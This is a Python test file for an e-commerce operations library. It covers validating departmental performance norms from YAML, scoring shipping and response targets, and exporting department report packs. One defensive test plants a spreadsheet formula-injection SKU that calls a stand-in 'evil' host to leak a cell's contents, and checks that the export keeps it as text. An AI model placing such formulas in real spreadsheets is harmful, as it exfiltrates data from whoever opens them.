"""Norms as data: the shipped defaults, clear errors for bad files, scoring by hand, breaches, packs."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
import yaml

from opslib.errors import NormsError, UserError
from opslib.operations import (
    DEFAULT_NORMS,
    METRICS,
    OpsData,
    load_norms,
    norms_from_mapping,
    read_norms,
    score_norms,
)

GOOD = {"departments": {"warehouse": {"name": "仓储", "owner": "Li", "norms": {
    "ship": {"metric": "ship_within", "hours": 24, "at_least": 0.95}}}}}


def _with(**norm) -> dict:
    return {"departments": {"warehouse": {"owner": "Li", "norms": {"ship": norm}}}}


def test_default_norms_cover_every_department_with_owners(default_norms) -> None:
    assert set(default_norms.departments) == {"operations", "warehouse", "logistics", "service", "product", "marketing"}
    assert all(d.owner for d in default_norms.departments.values())
    assert {n.metric for n in default_norms.norms} <= set(METRICS)
    # the issue's examples: 95 % shipped in time, 92 % on time, 90 % answered within 30 s
    by_id = {n.id: n for n in default_norms.norms}
    assert by_id["logistics.on_time"].target == 0.92
    assert by_id["service.first_response_30s"].params == {"seconds": 30.0}
    assert by_id["warehouse.ship_48h"].target == 0.95
    # routing points only at known departments
    assert set(default_norms.routing["review_topics"].values()) <= set(default_norms.departments)


def test_the_default_file_is_shipped_inside_the_package() -> None:
    assert DEFAULT_NORMS.is_file() and DEFAULT_NORMS.parent.name == "operations"
    assert yaml.safe_load(DEFAULT_NORMS.read_text(encoding="utf-8"))["departments"]


def test_a_shop_norms_file_wins_over_the_defaults(tmp_path: Path) -> None:
    (tmp_path / "norms.yml").write_text(yaml.safe_dump(GOOD, allow_unicode=True), encoding="utf-8")
    n = load_norms(shop_dir=tmp_path)
    assert n.source == str(tmp_path / "norms.yml") and [x.id for x in n.norms] == ["warehouse.ship"]
    assert load_norms(shop_dir=tmp_path / "elsewhere").source == str(DEFAULT_NORMS)


@pytest.mark.parametrize(("cfg", "says"), [
    ([1, 2], "must be a mapping with 'departments:'"),
    ({"departmens": {}}, "unknown top-level key(s) departmens"),
    ({"departments": {}}, "needs 'departments:'"),
    ({"departments": {"warehouse": {"norms": {"ship": {"metric": "on_time", "at_least": 0.9}}}}}, "needs an owner"),
    ({"departments": {"warehouse": {"owner": "Li"}}}, "needs 'norms:'"),
    (_with(at_least=0.9), "warehouse.ship: no metric"),
    (_with(metric="ship_in", at_least=0.9), "unknown metric 'ship_in' — expected one of"),
    (_with(metric="ship_within"), "needs exactly one target, at_least or at_most"),
    (_with(metric="ship_within", at_least=0.9, at_most=0.99), "got at_least, at_most"),
    (_with(metric="ship_within", at_least=95), "is not a share — write 95% as 0.95"),
    (_with(metric="ship_within", at_least="95%"), "at_least must be a number, got '95%'"),
    (_with(metric="ship_within", at_least=0.9, hours="24h"), "hours must be int or float, got '24h'"),
    (_with(metric="ship_within", at_least=0.9, hours=-1), "hours must be positive"),
    (_with(metric="ship_within", at_least=0.9, seconds=30), "unknown key(s) seconds for metric ship_within"),
    (_with(metric="first_response_within", at_least=0.9, stage="presale"), "stage 'presale' — expected one of"),
    (_with(metric="on_time", at_least=0.9, scope="peak"), "scope 'peak' — expected one of all, campaign_days"),
    (_with(metric="on_time", at_least=0.9, min_units=0), "min_units must be a whole number >= 1"),
    (_with(metric="review_score", at_least=42), "review scores run from 1 to 5"),
    ({**GOOD, "routing": {"review_topics": {"物流": "logistics"}}}, "department 'logistics' is not in departments"),
])
def test_bad_norms_name_what_is_wrong(cfg, says: str) -> None:
    with pytest.raises(NormsError) as err:
        norms_from_mapping(cfg, source="my/norms.yml")
    assert says in str(err.value)
    assert str(err.value).startswith("my/norms.yml")
    assert isinstance(err.value, UserError)


def test_unreadable_files(tmp_path: Path) -> None:
    with pytest.raises(NormsError, match="no such norms file"):
        read_norms(tmp_path / "missing.yml")
    bad = tmp_path / "norms.yml"
    bad.write_text("departments: [unclosed", encoding="utf-8")
    with pytest.raises(NormsError, match="not valid YAML"):
        read_norms(bad)


def _orders_data() -> OpsData:
    t = pd.to_datetime(["2024-01-01 10:00"] * 6 + ["2024-01-08 10:00"] * 4)
    o = pd.DataFrame({"order_id": [f"o{i}" for i in range(10)], "order_ts": t, "paid_ts": t,
                      "cancelled": False, "units": 1, "campaign_day": [True] * 3 + [False] * 7,
                      "handling_h": [10.0, 30.0, 50.0, 60.0, 20.0, 20.0, 10.0, 10.0, 70.0, 10.0],
                      "shipped_ts": t, "carrier": ["A"] * 5 + ["B"] * 5, "warehouse": "W", "sku": "s"})
    return OpsData(orders=o, days=pd.DataFrame(), reviews=None, contacts=None, as_of=pd.Timestamp("2024-02-01"),
                   has_fulfilment=True, peak_rule="campaign")


def _norms(**extra) -> object:
    return norms_from_mapping({"departments": {"warehouse": {"owner": "Li", "norms": {
        "ship": {"metric": "ship_within", "hours": 48, "at_least": 0.9, "min_units": 3, **extra}}}}})


def test_scoring_by_hand() -> None:
    card = score_norms(_orders_data(), _norms(), ("2024-01-01", "2024-01-31"))
    r = card.results.iloc[0]
    # handling <= 48 h: 7 of 10 (50, 60 and 70 h fail) = 70 % against at least 90 %: breached
    assert r["value"] == pytest.approx(0.7) and r["units"] == 10 and r["fails"] == 3
    assert r["status"] == "breached" and r["shortfall"] == pytest.approx(0.2)
    b = card.breaches()
    assert sorted(b["measure"]) == [50.0, 60.0, 70.0] and b["owner"].eq("Li").all()
    # weekly trend, by when the orders came due (paid + 48 h): week of 2024-01-01 6 units at 4/6, next week 3/4
    tr = card.trend.set_index("week")["value"]
    assert tr[pd.Timestamp("2024-01-01")] == pytest.approx(4 / 6) and tr[pd.Timestamp("2024-01-08")] == 0.75


def test_scope_min_units_and_skipped() -> None:
    card = score_norms(_orders_data(), _norms(scope="campaign_days"), ("2024-01-01", "2024-01-31"))
    r = card.results.iloc[0]
    assert r["units"] == 3 and r["value"] == pytest.approx(2 / 3)  # campaign days: 10, 30, 50 h
    few = score_norms(_orders_data(), _norms(min_units=50), ("2024-01-01", "2024-01-31")).results.iloc[0]
    assert few["status"] == "too_few" and "fewer than min_units 50" in few["reason"]
    svc = norms_from_mapping({"departments": {"service": {"owner": "Wu", "norms": {
        "fr": {"metric": "first_response_within", "at_least": 0.9}}}}})
    d = _orders_data()
    d.skipped["service"] = "no service table in x"
    s = score_norms(d, svc, ("2024-01-01", "2024-01-31")).results.iloc[0]
    assert s["status"] == "skipped" and "no service table in x" in s["reason"]


def test_contributors_by_hand() -> None:
    card = score_norms(_orders_data(), _norms(), ("2024-01-01", "2024-01-31"))
    c = card.contributors("warehouse.ship", min_units=1).set_index(["dimension", "group"])
    # carrier A: 5 units, 3 ok (60 %) -> excess 5 × (0.9 - 0.6) = 1.5; the whole gap 10 × 0.2 = 2 -> closes 75 %
    assert c.loc[("carrier", "A"), "excess"] == pytest.approx(1.5)
    assert c.loc[("carrier", "A"), "closes"] == pytest.approx(0.75)
    # campaign days: 3 units, 2 ok -> excess 3 × (0.9 - 2/3) = 0.7
    assert c.loc[("campaign_day", "活动日 campaign day"), "excess"] == pytest.approx(0.7)
    assert card.top_contributor("warehouse.ship", min_units=1) == "carrier A: 75% of the gap"


def test_scorecard_on_the_sample_shop(small_ops, default_norms) -> None:
    # 2025-11: 双11 (Nov 1-11) -> the warehouse and the carriers miss their norms, beyond noise
    card = score_norms(small_ops, default_norms, ("2025-11-01", "2025-11-28"))
    r = card.results.set_index("norm")
    assert r.loc["warehouse.ship_48h", "status"] == "breached" and r.loc["warehouse.ship_48h", "certain"]
    assert r.loc["logistics.on_time", "status"] == "breached" and r.loc["logistics.on_time", "certain"]
    assert r.loc["operations.cancellation", "status"] == "met"
    assert not (r["status"] == "skipped").any()
    assert card.top_contributor("logistics.on_time").startswith("campaign_day 活动日")
    # the slow agent carries the 30-second response norm
    if r.loc["service.first_response_30s", "status"] == "breached":
        c = card.contributors("service.first_response_30s")
        assert "客服07" in set(c.loc[c["dimension"] == "agent", "group"])
    d = card.departments().set_index("department")
    assert d.loc["warehouse", "breached"] == 1 and d.loc["operations", "met"] == 2


def test_export_packs_per_department(small_ops, default_norms, tmp_path: Path) -> None:
    card = score_norms(small_ops, default_norms, ("2025-11-01", "2025-11-28"))
    paths = card.export(tmp_path / "packs")
    names = {str(p.relative_to(tmp_path / "packs")) for p in paths}
    assert "ops_warehouse_2025-11-28/exceptions.xlsx" in names and "ops_logistics_2025-11-28/norms.csv" in names
    assert len(paths) == 3 * 2 * len(default_norms.departments)  # norms, exceptions, contributors; xlsx + csv
    pack = tmp_path / "packs" / "ops_warehouse_2025-11-28"
    exceptions = pd.read_excel(pack / "exceptions.xlsx")
    assert len(exceptions) == int(card.results.set_index("norm").loc["warehouse.ship_48h", "fails"])
    assert set(pd.read_excel(pack / "contributors.xlsx")["norm"]) == {"warehouse.ship_48h"}
    raw = (tmp_path / "packs" / "ops_logistics_2025-11-28" / "exceptions.csv").read_bytes()
    assert raw[:3] == b"\xef\xbb\xbf"  # UTF-8 with BOM: Excel shows Chinese


def test_packs_never_run_text_from_the_data_as_a_formula(tmp_path: Path) -> None:
    """A SKU typed as a formula stays text in the exceptions (the shared safe writer, opslib.reporting.exports)."""
    d = _orders_data()
    d.orders.loc[2, "sku"] = '=HYPERLINK("http://evil/?"&B2,"x")'
    card = score_norms(d, _norms(), ("2024-01-01", "2024-01-31"))
    card.export(tmp_path, formats=("csv",))
    text = (tmp_path / "ops_warehouse_2024-01-31" / "exceptions.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text


def test_pyproject_ships_the_default_norms() -> None:
    """An installed (non-editable) opslib must carry norms_default.yml: a wheel built before this entry had none."""
    import fnmatch
    import tomllib

    from tests.conftest import ROOT

    data = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["tool"]["setuptools"]["package-data"]
    assert any(fnmatch.fnmatch(DEFAULT_NORMS.name, g) for g in data.get("opslib.operations", []))


def test_every_metric_is_documented() -> None:
    from tests.conftest import ROOT

    doc = (ROOT / "docs" / "operations.md").read_text(encoding="utf-8")
    missing = [m for m in METRICS if f"`{m}`" not in doc]
    assert not missing, f"docs/operations.md does not describe {missing}"
